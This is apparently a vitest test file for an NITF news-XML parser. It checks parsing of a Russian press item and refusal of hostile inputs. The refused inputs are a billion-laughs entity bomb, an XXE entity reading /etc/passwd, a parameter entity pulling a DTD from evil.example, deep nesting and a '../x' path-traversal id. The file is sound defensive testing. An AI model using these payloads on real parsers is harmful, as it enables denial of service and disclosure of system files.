import { describe, expect, it } from 'vitest';
import { encodeSingleByte } from '../russian-prose.js';
import { parseFile, refusalOf } from './parse-with.js';

const body = `<body><body.head><hedline><hl1>Встреча с <em>послами</em></hl1><hl2>Подзаголовок</hl2></hedline><byline><person>Иван Иванов</person></byline><dateline><location>Астана</location><story.date norm="20260205T120000+0500"/></dateline><abstract><p>Обсуждены вопросы сотрудничества</p></abstract><distributor>Пресс-служба</distributor></body.head><body.content><block><p>Президент провел встречу с <org>послами</org>.</p><media><media-caption>Подпись к фото</media-caption></media><hl2>Итоги</hl2><bq><block><p>Слова главы государства.</p></block></bq><ul><li>первый вопрос;</li><li><p>второй вопрос.</p></li></ul><p><![CDATA[5 < 7 & 8]]> &amp; конец.</p></block></body.content><body.end><tagline>Служебное</tagline></body.end></body>`;
const head =
  '<head><title>Название</title><docdata><doc-id id-string="press-17"/><date.issue norm="20260206"/><date.release norm="20260205T180000+0500"/><key-list><keyword key="визит"/><keyword key="послы"/></key-list></docdata></head>';
const document = (declarations = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${declarations}<nitf>${head}${body}</nitf>`;

describe('NITF', () => {
  it('reads the whole item', async () => {
    expect(await parseFile('a.xml', document())).toEqual({
      headline: 'Встреча с послами',
      headlineMade: false,
      abstract: 'Обсуждены вопросы сотрудничества',
      body: [
        { kind: 'paragraph', text: 'Президент провел встречу с послами.' },
        { kind: 'heading', text: 'Итоги' },
        { kind: 'quote', text: 'Слова главы государства.' },
        { kind: 'list-item', text: 'первый вопрос;' },
        { kind: 'list-item', text: 'второй вопрос.' },
        { kind: 'paragraph', text: '5 < 7 & 8 & конец.' },
      ],
      byline: 'Иван Иванов',
      dateline: 'Астана',
      date: '2026-02-05',
      sourceLine: 'Пресс-служба',
      sourceUrl: null,
      externalId: 'press-17',
      embargoUntil: '2026-02-05T13:00:00.000Z',
      keywords: ['визит', 'послы'],
    });
  });

  it('reads windows-1251 as declared, and passes over the public document type', async () => {
    const source = document('<!DOCTYPE nitf SYSTEM "nitf-3-4.dtd">').replace('UTF-8', 'windows-1251');
    const article = await parseFile('a.nitf', encodeSingleByte(source, 'windows-1251'));
    expect(article.headline).toBe('Встреча с послами');
  });

  const laughs = `<!DOCTYPE nitf [<!ENTITY a "ха">${'bcdefghij'
    .split('')
    .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'.charAt(at)};`.repeat(10)}">`)
    .join('')}]>`;
  it.each([
    ['billion laughs', document(laughs).replace('Встреча', '&j;'), 'ingest.xml_declarations'],
    [
      'an external entity',
      document('<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      'ingest.xml_declarations',
    ],
    [
      'a parameter entity',
      document('<!DOCTYPE nitf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
      'ingest.xml_declarations',
    ],
    ['an unknown entity', document().replace('Встреча', '&nbsp;'), 'ingest.bad_xml'],
    ['XML cut off', document().slice(0, 700), 'ingest.bad_xml'],
    ['another vocabulary', '<?xml version="1.0"?><rss><channel/></rss>', 'ingest.not_nitf'],
    ['deep nesting', `<nitf>${'<a>'.repeat(100_000)}`, 'ingest.too_complex'],
    ['no text', '<nitf><body/></nitf>', 'ingest.no_body'],
    ['an identity that climbs', document().replace('press-17', '../x'), 'ingest.unsafe_metadata'],
  ])('refuses %s', async (_, source, code) => {
    expect(await refusalOf('a.xml', source)).toBe(code);
  });
});
